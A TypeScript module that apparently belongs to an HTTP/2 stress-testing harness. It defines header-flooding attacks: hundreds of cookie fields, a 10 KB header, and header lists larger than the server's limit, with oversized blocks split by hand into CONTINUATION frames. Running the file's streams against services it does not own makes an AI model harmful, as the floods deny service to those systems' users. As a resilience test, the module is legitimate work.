import { type Attack, inParallel } from "../attack.ts";
import { encodeFields, type Field, headers } from "../frames.ts";
import { keepSession } from "../raw-session.ts";
import { requestOf } from "../requests.ts";

const CONNECTIONS = 2;
const AT_ONCE = 10;
/** Below the server's limit of streams, so that no request is refused for that. */
const IN_FLIGHT = 100;

/** Streams that carry more header fields than honest ones do. */
function withFields(more: readonly Field[], kind: "healthz" | "connect" = "healthz"): Attack {
  return (context) => {
    const { fields, body } = requestOf(kind);
    const block = encodeFields([...fields, ...more]);
    // A frame holds 16 KB, so the rest goes into CONTINUATION frames.
    return inParallel(CONNECTIONS, () =>
      keepSession(context, {}, async (session) => {
        while (session.isOpen() && context.isGoing()) {
          const ids = Array.from({ length: AT_ONCE }, () => session.nextId());
          await session.write(...ids.flatMap((id) => inFrames(id, block, body === undefined)));
          context.count("requests", AT_ONCE);
          await session.waitForRoom(ids, IN_FLIGHT);
        }
      }),
    );
  };
}

/** RFC 9113, section 8.2.3: a cookie may come in one field per crumb. */
export const cookieCrumbs: Attack = withFields(Array.from({ length: 300 }, (_, index) => ["cookie", `c${index}=1`]));

/** 10 KB of headers in each stream. */
export const largeHeaders: Attack = withFields([["x-large", "a".repeat(10_000)]], "connect");

/** A list of 20 KB in small fields, over the 16 KB that the server allows. */
export const longHeaderList: Attack = withFields(
  Array.from({ length: 100 }, (_, index) => [`x-field-${index}`, "a".repeat(190)]),
);

function inFrames(id: number, block: Buffer, endStream: boolean): Buffer[] {
  if (block.length <= 16_384) return [headers(id, block, { endStream })];
  const first = headers(id, block.subarray(0, 16_000), { endStream });
  // Takes END_HEADERS off the first frame; a CONTINUATION frame carries it.
  first[4] = (first[4] as number) & ~0x4;
  const rest = headers(id, block.subarray(16_000), { endStream: false });
  rest[3] = 0x9;
  return [first, rest];
}
